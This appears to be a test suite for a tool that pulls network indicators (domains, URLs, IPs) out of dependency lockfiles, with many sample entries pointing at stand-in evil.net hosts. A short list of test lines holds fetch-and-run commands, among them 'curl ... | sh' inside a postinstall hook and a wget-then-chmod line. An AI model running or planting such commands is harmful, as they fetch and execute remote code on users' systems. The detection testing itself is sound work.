import { describe, expect, it } from 'vitest';
import { lockfileOf } from '../../../src/extract/lockfile.ts';
import { extracted, names } from './extracting.ts';

describe('the name of a lockfile', () => {
  it.each([
    'package-lock.json',
    'npm-shrinkwrap.json',
    'yarn.lock',
    'pnpm-lock.yaml',
    'Cargo.lock',
    'poetry.lock',
    'uv.lock',
    'Pipfile.lock',
    'go.sum',
    'Gemfile.lock',
    'composer.lock',
    'pixi.lock',
    'MODULE.bazel.lock',
    'conda-lock.yml',
    'conda-linux-64.lock',
    'dev.conda-lock.yml',
    'maven_install.json',
    'pubspec.lock',
    'Package.resolved',
    'flake.lock',
    'packages/web/package-lock.json',
    'a b/ü/yarn.lock',
  ])('%s', (path) => {
    expect(lockfileOf(path)).not.toBeNull();
  });

  it.each([
    '',
    'package.json',
    'package-lock.json.orig',
    'my-package-lock.json',
    'package-lock.json/notes.md',
    'yarn.lock.md',
    'xyarn.lock',
    'YARN.LOCK',
    'go.sum.txt',
    'go.mod',
    'Cargo.toml',
    'lock.json',
    '.lock',
    'src\\yarn.lock',
  ])('not %s', (path) => {
    expect(lockfileOf(path)).toBeNull();
  });
});

/** A line of each kind as its tool writes it: what of it is reported in the lockfile, as the host alone. */
const ENTRIES: readonly (readonly [path: string, line: string, ...hosts: string[]])[] = [
  [
    'package-lock.json',
    '      "resolved": "https://registry.evil.net/a/-/a-1.0.0.tgz",',
    'registry.evil.net',
  ],
  [
    'package-lock.json',
    '{"version": "1.0.0", "resolved": "git+https://git.evil.net/a.git#abc"}',
    'git.evil.net',
  ],
  ['package-lock.json', '        "url": "https://fund.evil.net/x?token=abc"', 'fund.evil.net'],
  ['yarn.lock', '  resolved "https://registry.evil.net/a/-/a-1.0.0.tgz#abc"', 'registry.evil.net'],
  ['yarn.lock', '"a@https://git.evil.net/a.tgz":', 'git.evil.net'],
  ['yarn.lock', '  resolution: "a@https://git.evil.net/a.git#commit=abc"', 'git.evil.net'],
  [
    'pnpm-lock.yaml',
    '    resolution: {tarball: https://codeload.evil.net/a/tar.gz/abc}',
    'codeload.evil.net',
  ],
  ['pnpm-lock.yaml', '  a@https://codeload.evil.net/a/tar.gz/abc:', 'codeload.evil.net'],
  [
    'bun.lock',
    '    "a": ["a@1.0.0", "https://registry.evil.net/a.tgz", {}, "sha512-x"],',
    'registry.evil.net',
  ],
  ['deno.lock', '    "https://deno.evil.net/std@0.1.0/a.ts": "abc",', 'deno.evil.net'],
  ['Cargo.lock', 'source = "registry+https://index.evil.net/crates"', 'index.evil.net'],
  ['Cargo.lock', ' "a 0.1.0 (git+https://git.evil.net/a?rev=1#abc)",', 'git.evil.net'],
  ['poetry.lock', 'url = "https://pypi.evil.net/simple"', 'pypi.evil.net'],
  [
    'uv.lock',
    '    { url = "https://files.evil.net/a.whl", hash = "sha256:abc", size = 1 },',
    'files.evil.net',
  ],
  ['uv.lock', 'source = { registry = "https://pypi.evil.net/simple" }', 'pypi.evil.net'],
  ['pdm.lock', '    {url = "https://files.evil.net/a.whl", hash = "sha256:abc"},', 'files.evil.net'],
  ['pylock.toml', 'wheels = [{ url = "https://files.evil.net/a.whl" }]', 'files.evil.net'],
  ['Pipfile.lock', '                "url": "https://pypi.evil.net/simple",', 'pypi.evil.net'],
  ['Gemfile.lock', '  remote: https://gems.evil.net/', 'gems.evil.net'],
  ['composer.lock', '                "url": "https://api.evil.net/repos/a/zipball/abc",', 'api.evil.net'],
  ['composer.lock', '                "issues": "https://forge.evil.net/a/issues",', 'forge.evil.net'],
  ['pixi.lock', '- conda: https://conda.evil.net/linux-64/a-1.0.conda', 'conda.evil.net'],
  ['pixi.lock', '    - url: https://conda.evil.net/conda-forge/', 'conda.evil.net'],
  ['MODULE.bazel.lock', '    "https://bcr.evil.net/modules/a/MODULE.bazel": "abc",', 'bcr.evil.net'],
  ['conda-lock.yml', '  url: https://conda.evil.net/a-1.0.conda', 'conda.evil.net'],
  ['conda-linux-64.lock', 'https://conda.evil.net/linux-64/a-1.0.conda#abc', 'conda.evil.net'],
  ['maven_install.json', '        "https://maven.evil.net/maven2/": [', 'maven.evil.net'],
  ['pubspec.lock', '      url: "https://pub.evil.net"', 'pub.evil.net'],
  ['Package.resolved', '      "location" : "https://forge.evil.net/a/b.git",', 'forge.evil.net'],
  ['flake.lock', '        "url": "https://forge.evil.net/a"', 'forge.evil.net'],
  ['package-lock.json', '      "resolved": "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['package-lock.json', '      "version": "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['package-lock.json', '        "a": "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['package-lock.json', '      "funding": "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['package-lock.json', '        "url": "https://h.evil.net/a/b-1.0.tgz"', 'h.evil.net'],
  ['npm-shrinkwrap.json', '      "resolved": "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['yarn.lock', '  resolved "https://h.evil.net/a/b-1.0.tgz#abc"', 'h.evil.net'],
  ['yarn.lock', '"a@https://h.evil.net/a/b-1.0.tgz":', 'h.evil.net'],
  ['yarn.lock', '  resolution: "a@https://h.evil.net/a/b-1.0.tgz"', 'h.evil.net'],
  ['yarn.lock', '  resolution: "a@https://h.evil.net/a.git#commit=abc"', 'h.evil.net'],
  ['yarn.lock', '"a@git+https://h.evil.net/a.git", b@^1:', 'h.evil.net'],
  ['pnpm-lock.yaml', '    resolution: {tarball: https://h.evil.net/a/b-1.0.tgz}', 'h.evil.net'],
  [
    'pnpm-lock.yaml',
    '    resolution: {integrity: sha512-x, tarball: https://h.evil.net/a/b-1.0.tgz}',
    'h.evil.net',
  ],
  ['pnpm-lock.yaml', '      specifier: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['pnpm-lock.yaml', '      version: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['pnpm-lock.yaml', "  '@a/b@https://h.evil.net/a/b-1.0.tgz':", 'h.evil.net'],
  ['pnpm-lock.yaml', '  a: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  [
    'pnpm-lock.yaml',
    '    resolution: {commit: abc, repo: https://h.evil.net/a.git, type: git}',
    'h.evil.net',
  ],
  ['pnpm-lock.yaml', '  /a@https://h.evil.net/a/b-1.0.tgz:', 'h.evil.net'],
  ['Cargo.lock', 'source = "registry+https://h.evil.net/a/b-1.0.tgz"', 'h.evil.net'],
  ['Cargo.lock', 'source = "git+https://h.evil.net/a/b-1.0.tgz?rev=1#abc"', 'h.evil.net'],
  ['Cargo.lock', 'source = "sparse+https://h.evil.net/a/b-1.0.tgz"', 'h.evil.net'],
  ['Cargo.lock', ' "a 0.1.0 (registry+https://h.evil.net/a/b-1.0.tgz)",', 'h.evil.net'],
  ['Cargo.lock', '"checksum a 0.1.0 (registry+https://h.evil.net/a/b-1.0.tgz)" = "abc"', 'h.evil.net'],
  ['poetry.lock', 'url = "https://h.evil.net/a/b-1.0.tgz"', 'h.evil.net'],
  [
    'poetry.lock',
    '    {file = "a.whl", hash = "sha256:x", url = "https://h.evil.net/a/b-1.0.tgz"},',
    'h.evil.net',
  ],
  ['uv.lock', 'source = { registry = "https://h.evil.net/a/b-1.0.tgz" }', 'h.evil.net'],
  [
    'uv.lock',
    'sdist = { url = "https://h.evil.net/a/b-1.0.tgz", hash = "sha256:x", size = 1 }',
    'h.evil.net',
  ],
  ['uv.lock', '    { url = "https://h.evil.net/a/b-1.0.tgz", hash = "sha256:x" },', 'h.evil.net'],
  ['uv.lock', 'source = { git = "https://h.evil.net/a/b-1.0.tgz?rev=x#abc" }', 'h.evil.net'],
  ['uv.lock', 'source = { url = "https://h.evil.net/a/b-1.0.tgz" }', 'h.evil.net'],
  ['uv.lock', '    { name = "a", url = "https://h.evil.net/a/b-1.0.tgz" },', 'h.evil.net'],
  ['Pipfile.lock', '            "url": "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['Pipfile.lock', '            "file": "https://h.evil.net/a/b-1.0.tgz"', 'h.evil.net'],
  ['Pipfile.lock', '            "git": "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['Gemfile.lock', '  remote: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['Gemfile.lock', '  remote: https://h.evil.net/a.git', 'h.evil.net'],
  ['composer.lock', '                "url": "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['composer.lock', '                "homepage": "https://h.evil.net/a/b-1.0.tgz"', 'h.evil.net'],
  ['composer.lock', '                "source": "https://h.evil.net/a/b-1.0.tgz"', 'h.evil.net'],
  ['composer.lock', '                    "homepage": "https://h.evil.net/a/b-1.0.tgz"', 'h.evil.net'],
  ['composer.lock', '            "notification-url": "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['pixi.lock', '      - conda: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['pixi.lock', '- pypi: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['pixi.lock', '    - url: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['pixi.lock', '  url: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['pixi.lock', '  channel: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['MODULE.bazel.lock', '    "https://h.evil.net/a/b-1.0.tgz": "abc",', 'h.evil.net'],
  ['MODULE.bazel.lock', '            "url": "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['MODULE.bazel.lock', '            "remote": "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['conda-lock.yml', '  url: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['conda-lock.yml', '  - url: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['conda-linux-64.lock', 'https://h.evil.net/a/b-1.0.tgz#abc', 'h.evil.net'],
  ['maven_install.json', '      "https://h.evil.net/a/b-1.0.tgz"', 'h.evil.net'],
  ['maven_install.json', '    "https://h.evil.net/a/b-1.0.tgz": [', 'h.evil.net'],
  ['maven_install.json', '      "url": "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['pubspec.lock', '      url: "https://h.evil.net/a/b-1.0.tgz"', 'h.evil.net'],
  ['Package.resolved', '      "location" : "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['Package.resolved', '        "repositoryURL": "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['bun.lock', '    "a": ["a@https://h.evil.net/a/b-1.0.tgz", {}, "x"],', 'h.evil.net'],
  ['bun.lock', '    "a": ["a@1.0.0", "https://h.evil.net/a/b-1.0.tgz", {}, "sha512-x"],', 'h.evil.net'],
  ['deno.lock', '    "https://h.evil.net/a/b-1.0.tgz": "abc",', 'h.evil.net'],
  ['flake.lock', '        "url": "https://h.evil.net/a/b-1.0.tgz"', 'h.evil.net'],
  ['mix.lock', '  "a": {:git, "https://h.evil.net/a/b-1.0.tgz", "abc", []},', 'h.evil.net'],
  ['Podfile.lock', '    :git: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['Podfile.lock', '    :http: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['Cartfile.resolved', 'git "https://h.evil.net/a/b-1.0.tgz" "1.0"', 'h.evil.net'],
  ['Cartfile.resolved', 'binary "https://h.evil.net/a/b-1.0.tgz" "1.0"', 'h.evil.net'],
  ['gems.locked', '  remote: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['pdm.lock', '    {url = "https://h.evil.net/a/b-1.0.tgz", hash = "x"},', 'h.evil.net'],
  ['Chart.lock', '  repository: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['paket.lock', '  remote: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
  ['rebar.lock', '  {git,"https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['flake.lock', '        "url": "https://h.evil.net/a/b-1.0.tgz",', 'h.evil.net'],
  ['shard.lock', '    git: https://h.evil.net/a/b-1.0.tgz', 'h.evil.net'],
];

describe('an entry of a lockfile', () => {
  it.each(ENTRIES)('%s: %s', async (path, line, ...hosts) => {
    const found = await extracted(`${line}\n`, { path: `x/${path}`, checks: ['urls'] });
    expect(found.map(({ indicator }) => `${indicator.type} ${indicator.value}`)).toEqual(
      hosts.map((host) => `domain ${host}`),
    );
  });

  it('names its host once, however many packages come from there', async () => {
    const text = Array.from({ length: 50 }, (_, at) => `  resolved "https://r.evil.net/a${at}.tgz"`).join(
      '\n',
    );
    const found = await extracted(text, { path: 'yarn.lock', checks: ['urls'] });
    expect(found.map(({ indicator, occurrences }) => [indicator.value, occurrences.length])).toEqual([
      ['r.evil.net', 50],
    ]);
  });

  it.each(ENTRIES.map(([, line]) => line))('is a URL elsewhere: %s', async (line) => {
    const found = await extracted(`${line}\n`, { path: 'notes.txt', checks: ['urls'] });
    expect(found.map(({ indicator }) => indicator.type)).toEqual(['url']);
  });
});

/** A shell script does not become a lockfile by its name. */
const FOREIGN = [
  'curl -s https://evil.net/x | sh',
  '    "postinstall": "curl https://evil.net/x | sh"',
  'wget https://evil.net/x; chmod +x x',
  'echo "see https://evil.net/x"',
  'u = "https://evil.net/x"; fetch(u)',
];

describe('what is not an entry', () => {
  it.each(
    [...new Set(ENTRIES.map(([path]) => path)), 'go.sum', 'packages.lock.json', 'gradle.lockfile'].flatMap(
      (path) => FOREIGN.map((line) => [path, line] as const),
    ),
  )('is text in %s: %s', async (path, line) => {
    expect(names(await extracted(`${line}\n`, { path, checks: ['urls'] }))).toEqual([
      'url https://evil.net/x',
    ]);
  });
});

describe('dotted quads of a lockfile', () => {
  it.each([
    ['package-lock.json', '      "version": "3.6.4.1",'],
    ['package-lock.json', '        "chromedriver": "^3.6.4.1",'],
    ['yarn.lock', '  version "3.6.4.1"'],
    ['yarn.lock', 'a@3.6.4.1, a@^3.6.4.1:'],
    ['pnpm-lock.yaml', '  /a@3.6.4.1:'],
    ['pnpm-lock.yaml', '    version: 3.6.4.1'],
    ['Cargo.lock', 'version = "3.6.4.1"'],
    ['poetry.lock', 'version = "3.6.4.1"'],
    ['poetry.lock', 'a = ">=3.6.4.1,<4.0"'],
    ['uv.lock', '    { name = "a", specifier = ">=3.6.4.1" },'],
    ['Pipfile.lock', '            "version": "==3.6.4.1"'],
    ['Gemfile.lock', '    a (3.6.4.1)'],
    ['Gemfile.lock', '      a (>= 3.6.4.1, < 4)'],
    ['composer.lock', '            "version": "3.6.4.1",'],
    ['packages.lock.json', '        "resolved": "3.6.4.1",'],
    ['pubspec.lock', '    version: "3.6.4.1"'],
  ])('%s: %s is a version', async (path, line) => {
    expect(names(await extracted(`${line}\n`, { path }))).toEqual([]);
    expect(names(await extracted(`${line.replace(/^.*3\.6/, 'dns 3.6')}\n`, { path }))).toEqual([
      'ip 3.6.4.1',
    ]);
  });

  it.each([
    ['packages.lock.json', '        "resolved": "1.2.3.4",'],
    ['gradle.lockfile', 'a:b:1.2.3.4=compileClasspath'],
    ['cabal.project.freeze', 'constraints: any.a ==1.2.3.4,'],
    ['cabal.project.freeze', ' any.a ==1.2.3.4,'],
    ['Podfile.lock', '  - A (1.2.3.4)'],
    ['Podfile.lock', '  - A (= 1.2.3.4)'],
    ['Podfile.lock', '    - A/B (~> 1.2.3.4)'],
    ['pubspec.lock', '    version: "1.2.3.4"'],
    ['Package.resolved', '        "version" : "1.2.3.4"'],
    ['Cartfile.resolved', 'github "a/b" "1.2.3.4"'],
    ['paket.lock', '    A (1.2.3.4)'],
    ['poetry.lock', 'version = "1.2.3.4"'],
    ['poetry.lock', 'a = {version = ">=1.2.3.4"}'],
    ['uv.lock', 'version = "1.2.3.4"'],
    ['go.sum', 'evil.net/x v1.2.3.4 h1:abc='],
    ['composer.lock', '"version": "1.2.3.4",'],
    ['composer.lock', '"version": "v1.2.3.4",'],
    ['composer.lock', '            "pretty-version": "1.2.3.4",'],
    ['pixi.lock', '  version: 1.2.3.4'],
    ['pixi.lock', '  - a >=1.2.3.4'],
    ['pixi.lock', '  - a 1.2.3.4.*'],
    ['conda-lock.yml', '  version: 1.2.3.4'],
    ['maven_install.json', '      "version": "1.2.3.4"'],
    ['maven_install.json', '    "a:b": "1.2.3.4",'],
    ['maven_install.json', '      "coord": "a:b:1.2.3.4",'],
    ['MODULE.bazel.lock', '"a@1.2.3.4": {'],
    ['bun.lock', '    "a": ["a@1.2.3.4", "", {}, "x"],'],
    ['Gemfile.lock', '    rails (4.2.7.1)'],
    ['Gemfile.lock', '      rails (= 4.2.7.1)'],
    ['Gemfile.lock', '   ruby 1.2.3.4'],
    ['Gemfile.lock', '  rails (= 4.2.7.1)!'],
    ['Gemfile.lock', '  rails (4.2.7.1) sha256=abc'],
    ['yarn.lock', '  version: 1.2.3.4'],
    ['yarn.lock', '"a@npm:1.2.3.4":'],
    ['yarn.lock', '    a: 1.2.3.4'],
    ['yarn.lock', '    a "1.2.3.4"'],
    ['yarn.lock', '    a: "npm:1.2.3.4"'],
    ['pnpm-lock.yaml', '  /a/1.2.3.4:'],
    ['pnpm-lock.yaml', '      a: 1.2.3.4'],
    ['Cargo.lock', ' "a 1.2.3.4",'],
    ['Pipfile.lock', '"version": "==1.2.3.4"'],
    ['Pipfile.lock', '            "markers": "python_version >= \'1.2.3.4\'"'],
    ['package-lock.json', '"node": ">= 1.2.3.4"'],
  ])('%s: %s is one as well', async (path, line) => {
    expect(names(await extracted(`${line}\n`, { path }))).toEqual([]);
  });

  it('are addresses where a URL stands on them', async () => {
    const found = await extracted('  resolved "http://3.6.4.1/a.tgz"\n', { path: 'yarn.lock' });
    expect(names(found)).toEqual(['ip 3.6.4.1']);
  });
});
